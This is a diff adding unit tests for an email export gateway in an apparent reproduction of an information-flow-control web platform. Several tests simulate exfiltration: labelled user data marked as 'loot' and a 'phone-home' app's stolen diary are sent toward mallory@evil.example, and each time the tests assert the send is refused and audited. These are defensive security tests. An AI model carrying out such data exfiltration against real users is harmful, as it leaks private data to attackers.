@@ -1,0 +1,97 @@
+"""Unit tests for the email perimeter exit."""
+
+import pytest
+
+from repro.kernel import Kernel
+from repro.labels import CapabilitySet, Label, minus
+from repro.net import EmailGateway, ExportViolation
+
+
+@pytest.fixture()
+def world():
+    kernel = Kernel()
+    root = kernel.spawn_trusted("root")
+    tag_bob = kernel.create_tag(root, purpose="bob", tag_owner="bob")
+    authority = {"bob": CapabilitySet([minus(tag_bob)])}
+    gw = EmailGateway(kernel, authority_for=lambda u: authority.get(
+        u, CapabilitySet.EMPTY))
+    gw.register_address("bob@w5", owner="bob")
+    return kernel, gw, tag_bob
+
+
+class TestAddressBook:
+    def test_registered_mailbox(self, world):
+        __, gw, __ = world
+        assert gw.mailbox("bob@w5").owner == "bob"
+
+    def test_unknown_address_is_external(self, world):
+        __, gw, __ = world
+        box = gw.mailbox("stranger@elsewhere")
+        assert box.owner is None
+
+
+class TestExportPolicy:
+    def test_own_data_mails_to_owner(self, world):
+        __, gw, tag_bob = world
+        mail = gw.send("bob@w5", "digest", {"x": 1}, Label([tag_bob]))
+        assert gw.mailbox("bob@w5").messages == [mail]
+        assert gw.sent == 1
+
+    def test_own_data_refused_to_strangers(self, world):
+        __, gw, tag_bob = world
+        with pytest.raises(ExportViolation):
+            gw.send("mallory@evil.example", "backup", {"loot": 1},
+                    Label([tag_bob]))
+        assert gw.refused == 1
+        assert gw.mailbox("mallory@evil.example").messages == []
+
+    def test_public_data_mails_anywhere(self, world):
+        __, gw, __ = world
+        gw.send("anyone@anywhere", "newsletter", "public text",
+                Label.EMPTY)
+        assert len(gw.mailbox("anyone@anywhere").messages) == 1
+
+    def test_refusal_audited(self, world):
+        kernel, gw, tag_bob = world
+        with pytest.raises(ExportViolation):
+            gw.send("mallory@evil.example", "s", "b", Label([tag_bob]))
+        assert kernel.audit.count(category="export", allowed=False) == 1
+
+
+class TestEndToEndViaApps:
+    def test_digest_email_to_self(self):
+        from repro import W5System
+        w5 = W5System()
+        users = {}
+        for name in ("bob", "amy"):
+            users[name] = w5.add_user(
+                name, apps=["blog", "social", "recommender"],
+                friends=[u for u in ("bob", "amy") if u != name])
+        users["amy"].get("/app/blog/post", title="t", body="amy-content")
+        users["bob"].get("/app/social/befriend", friend="amy")
+        r = users["bob"].get("/app/recommender/email")
+        assert r.ok
+        inbox = w5.provider.email.mailbox("bob@w5").messages
+        assert len(inbox) == 1
+        assert inbox[0].subject == "your daily digest"
+
+    def test_phone_home_app_blocked(self):
+        """§3.1 verbatim: the app cannot email the victim's data to its
+        author, even though the victim enabled it."""
+        from repro import W5System
+        w5 = W5System(with_adversaries=True)
+        bob = w5.add_user("bob", apps=["phone-home"])
+        w5.provider.store_user_data("bob", "diary.txt", "SECRET-DIARY")
+        r = bob.get("/app/phone-home/go", victim="bob")
+        assert r.status in (403, 500)
+        evil_inbox = w5.provider.email.mailbox(
+            "mallory@evil.example").messages
+        assert evil_inbox == []
+
+    def test_anonymous_has_no_mailbox(self):
+        from repro import W5System
+        w5 = W5System()
+        w5.add_user("bob", apps=["recommender"])
+        anon = w5.anonymous_client()
+        r = anon.get("/app/recommender/email")
+        assert r.body.get("error") == "log in first"
